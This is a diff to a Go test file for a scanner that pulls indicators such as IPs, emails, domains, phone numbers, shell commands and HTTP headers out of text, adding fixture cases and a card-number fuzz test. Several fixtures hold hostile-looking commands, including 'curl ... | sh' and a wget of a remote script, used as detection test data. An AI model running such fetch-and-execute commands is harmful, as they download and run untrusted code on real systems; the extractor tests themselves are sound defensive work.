@@ -43,7 +43,7 @@ func TestFeatures(t *testing.T) {
 		{"ipv4", "conn from 203.0.113.7:443 and 10.0.0.1.", KindIPv4, []string{"203.0.113.7", "10.0.0.1"}},
 		{"ipv4 rejects", "v1.2.3.4.5 256.1.1.1 01.2.3.4 1.2.3 a1.2.3.4 1.2.3.4x", KindIPv4, nil},
 		{"ipv6", "listen [2001:db8::1]:80 and fe80::1ff:fe23:4567:890a now ::1 ok", KindIPv6, []string{"2001:db8::1", "fe80::1ff:fe23:4567:890a", "::1"}},
-		{"ipv6 rejects", "std::map 12:34:56 aa:bb:cc:dd:ee:ff Foo::Bar d::", KindIPv6, nil},
+		{"ipv6 rejects", "std::map 12:34:56 aa:bb:cc:dd:ee:ff Foo::Bar d:: D::f C::A", KindIPv6, nil},
 		{"email", "mail john.doe+x@example.co.jp, <taro@mail.example.com>.", KindEmail, []string{"john.doe+x@example.co.jp", "taro@mail.example.com"}},
 		{"email rejects", "a@b .x@example.com x.@example.com a..b@example.com foo@bar", KindEmail, nil},
 		{"domain", "resolve evil-c2.example.com and www.example.jp. then", KindDomain, []string{"evil-c2.example.com", "www.example.jp"}},
@@ -59,8 +59,8 @@ func TestFeatures(t *testing.T) {
 			[]string{"090-1234-5678", "03-1234-5678", "0120-123-456", "06-6123-4567", "09012345678"}},
 		{"phone e164", "call +81-90-1234-5678 or +819012345678 or +1 415 555 0100", KindPhone, []string{"+81-90-1234-5678", "+819012345678", "+1 415 555 0100"}},
 		{"phone rejects", "2024-01-15 0-1234-5678 090-1234-56789 +0123456789 +81-3", KindPhone, nil},
-		{"prompt", "root@web01:/var/www# wget http://203.0.113.9/x.sh\n[alice@db01 ~]$ sudo -i\n$ ls -la\n# This is a comment\n", KindCommand,
-			[]string{"wget http://203.0.113.9/x.sh", "sudo -i", "ls -la"}},
+		{"prompt", "root@web01:/var/www# wget http://203.0.113.9/x.sh\n[alice@db01 ~]$ sudo -i\n$ ls -la\n# This is a comment\n# make certain it works.\n# id\n# /usr/sbin/sshd -D\n# /(^|x)/ {\n", KindCommand,
+			[]string{"wget http://203.0.113.9/x.sh", "sudo -i", "ls -la", "id", "/usr/sbin/sshd -D"}},
 		{"bash history", "#1700000000\ncurl -s http://x.example.com/a | sh\n#1700000060\nrm -f /tmp/a\n", KindCommand,
 			[]string{"curl -s http://x.example.com/a | sh", "rm -f /tmp/a"}},
 		{"request", "GET /admin/login.php?id=1 HTTP/1.1\r\nHost: shop.example.com\r\nCookie: PHPSESSID=abc123; x=taro@example.com\r\nAuthorization: Basic dXNlcjpwYXNz\r\n\r\nbody", KindHTTPHeader,
@@ -172,6 +172,26 @@ func FuzzScan(f *testing.F) {
 			}
 			_ = s.Context(nil, m)
 		})
+	})
+}
+
+func FuzzLuhnIssuer(f *testing.F) {
+	f.Add([]byte("4242424242424242"))
+	f.Add([]byte("62212600000000009"))
+	f.Fuzz(func(t *testing.T, d []byte) {
+		ok := Luhn(d)
+		iss := Issuer(d)
+		for _, c := range d {
+			if c < '0' || c > '9' {
+				if ok {
+					t.Fatalf("Luhn accepted non-digits %q", d)
+				}
+				return
+			}
+		}
+		if iss != "" && (len(d) < 13 || len(d) > 19) {
+			t.Fatalf("issuer %s for %d digits", iss, len(d))
+		}
 	})
 }
 
